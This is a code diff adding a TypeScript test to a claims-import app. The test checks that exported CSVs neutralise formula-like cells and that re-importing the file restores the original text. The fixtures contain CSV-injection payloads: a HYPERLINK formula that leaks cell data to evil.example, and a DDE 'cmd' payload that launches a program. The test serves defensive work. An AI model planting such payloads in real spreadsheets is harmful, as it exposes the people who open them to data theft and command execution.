@@ -7,6 +7,7 @@ import fs from 'node:fs';
 import path from 'node:path';
 import iconv from 'iconv-lite';
 import ExcelJS from 'exceljs';
+import Papa from 'papaparse';
 import { makeService, idNumber, tempDir, REPO_ROOT } from '../support/temp.ts';
 import { insertCase } from '../../electron/core/caseImport.ts';
 import { verifyData } from '../../electron/core/verify.ts';
@@ -519,6 +520,57 @@ test('the rows left out, downloaded as a CSV (the import screen\'s), keep every 
   const done = await ok<ImportResult>(s.dispatch('import.commit', { fileName: 'fixed.csv', base64: Buffer.from(fixed).toString('base64'), mapping: again.mapping, category: 'outage', skipRejected: true }));
   const stored = s.db.prepare(`SELECT p.id_number AS id FROM cases c JOIN people p ON p.id = c.claimant_id WHERE c.number = ?`).get(done.cases[0]!.number) as { id: string };
   assert.equal(stored.id, b);
+  s.close();
+});
+
+test('the rows left out CSV writes a cell that starts like a formula (=HYPERLINK, =cmd|…, @SUM, -1) as text with a leading \', as every CSV ClaimDesk writes; the re-import takes the mark off again', async () => {
+  // skippedRowsCsv alone: text cells of an employee's sheet, a header and a reason quoting it.
+  const id = idNumber('35020319800101123');
+  const rejection = (row: number, message: string, values: string[]) => ({ row, values, problems: [{ field: 'amount' as const, message: { 'zh-CN': message, en: message } }] });
+  const unit = skippedRowsCsv(['姓名', '身份证号', '医疗机构', '金额', '=项目'], [
+    rejection(2, '金额“abc”应以元为单位、最多两位小数', ['张三', id, '厦门市中医院', 'abc', '=HYPERLINK("http://evil.example/?"&A2,"点此查看")']),
+    rejection(3, '+列名 reason', ['李四', id, "=cmd|' /C calc'!A0", '-1', '@SUM(1+1)']),
+    rejection(4, 'x', ['\t王五', id, "'已有引号", '+12', '\r1']),
+  ], { row: '行号', problems: '原因' }, (m) => m['zh-CN']);
+  assert.deepEqual(unit.replace(/^\ufeff/, '').split('\r\n'), [
+    "行号,原因,姓名,身份证号,医疗机构,金额,'=项目",
+    `2,金额“abc”应以元为单位、最多两位小数,张三,\t${id},厦门市中医院,abc,"'=HYPERLINK(""http://evil.example/?""&A2,""点此查看"")"`,
+    `3,'+列名 reason,李四,\t${id},'=cmd|' /C calc'!A0,'-1,'@SUM(1+1)`,
+    `4,x,'\t王五,\t${id},'已有引号,'+12,"'\r1"`,
+    '',
+  ]);
+
+  // The tester's file: text cells (not formulas) in an XLSX, both rows refused for their amount.
+  const s = makeService();
+  const [a, b] = [idNumber('35020319800101123'), idNumber('35020319900505246')];
+  const wb = new ExcelJS.Workbook();
+  const ws = wb.addWorksheet('明细');
+  ws.addRow(['姓名', '身份证号', '就诊日期', '医疗机构', '金额', '项目']);
+  ws.addRow(['张三', a, '2024-07-01', '厦门市中医院', 'abc', '=HYPERLINK("http://evil.example/?"&A2,"点此查看")']);
+  ws.addRow(['李四', b, '2024-07-02', "=cmd|' /C calc'!A0", '-1', '@SUM(1+1)']);
+  const xlsx = { fileName: 'formula-text.xlsx', base64: Buffer.from(await wb.xlsx.writeBuffer()).toString('base64') };
+  const p = await ok<ImportPreview>(s.dispatch('import.preview', xlsx));
+  assert.deepEqual(p.rejected.map((r) => r.row), [2, 3]);
+  const download = skippedRowsCsv(p.columns, p.rejected, { row: '行号', problems: '不能导入的原因' }, (m) => m['zh-CN']);
+  // No line of it has a cell Excel would run: each cell starting with = + - @ carries the '.
+  const cells = Papa.parse<string[]>(download.replace(/^\ufeff/, ''), { skipEmptyLines: true }).data.flat();
+  assert.deepEqual(cells.filter((c) => /^[=+\-@]/.test(c)), []);
+  assert.ok(cells.includes("'=cmd|' /C calc'!A0") && cells.includes("'@SUM(1+1)") && cells.includes("'-1"));
+  // The clerk fixes the amounts and imports the file back: the texts are the employee's again,
+  // the mark gone (as the ID number's tab is), and an amount still '-1 would be refused as -1.
+  const negative = download.replace(',abc,', ',12.50,');
+  const refused = await ok<ImportPreview>(s.dispatch('import.preview', { fileName: 'negative.csv', base64: Buffer.from(negative).toString('base64') }));
+  assert.deepEqual(refused.rejected.map((r) => r.problems.map((x) => x.message['zh-CN'])), [['金额“-1”是负数：退费请不要填在报销明细里']]);
+  const fixed = download.replace(',abc,', ',12.50,').replace(",'-1,", ',30.00,');
+  const again = await ok<ImportPreview>(s.dispatch('import.preview', { fileName: 'fixed.csv', base64: Buffer.from(fixed).toString('base64') }));
+  assert.equal(again.accepted, 2, JSON.stringify(again.rejected));
+  const done = await ok<ImportResult>(s.dispatch('import.commit', { fileName: 'fixed.csv', base64: Buffer.from(fixed).toString('base64'), mapping: again.mapping, category: 'outage' }));
+  const stored = (await Promise.all(done.cases.map((c) => ok<CaseRecord>(s.dispatch('cases.get', { number: c.number })))))
+    .map((c) => [c.case.claimant.idNumber, c.case.expenses[0]!.institution, c.case.expenses[0]!.item, c.case.expenses[0]!.amountFen]);
+  assert.deepEqual(stored.sort(), [
+    [a, '厦门市中医院', '=HYPERLINK("http://evil.example/?"&A2,"点此查看")', 1250],
+    [b, "=cmd|' /C calc'!A0", '@SUM(1+1)', 3000],
+  ].sort());
   s.close();
 });
 
